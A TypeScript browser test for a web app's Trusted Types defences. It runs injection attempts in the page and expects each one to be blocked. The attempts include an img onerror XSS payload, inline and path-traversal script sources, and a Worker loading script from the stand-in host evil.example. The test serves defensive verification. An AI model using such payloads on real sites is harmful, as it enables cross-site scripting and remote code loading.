import { expect, onTestFinished } from 'vitest'
import { aName, aPassword } from '../support/examples.ts'
import { test } from './browser.ts'
import { Visitor } from './visitor.ts'

test('the page lets no text become markup or script, and begins its own workers', async ({
  browser,
  parlor,
}) => {
  // Not like other visitors: what is tried here is to be found in the browser's log.
  const page = await browser.newPage({ baseURL: parlor.url })
  onTestFinished(() => page.close())
  await new Visitor(page, aName('anna'), aPassword()).signUp()
  const attempt = (what: string) =>
    page.evaluate(
      `(() => { try { ${what}; return 'done' } catch (error) { return error.name } })()`,
    )
  await page.evaluate('navigator.serviceWorker.ready.then(() => true)')
  for (const what of [
    'document.body.innerHTML = "<b>x</b>"',
    'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>")',
    'document.createElement("script").src = location.origin + "/assets/../evil.js"',
    'document.createElement("script").text = "alert(1)"',
    'new Worker("/rooms/some-file-that-somebody-posted")',
    'new Worker("https://evil.example/x.js")',
    'new DOMParser().parseFromString("<b>x</b>", "text/html")',
    'document.write("<b>x</b>")',
    'trustedTypes.createPolicy("more", { createHTML: (text) => text })',
  ]) {
    expect([what, await attempt(what)]).toEqual([
      what,
      expect.stringMatching(/TypeError|EvalError/),
    ])
  }
  expect(await page.locator('body b').count()).toBe(0)
})
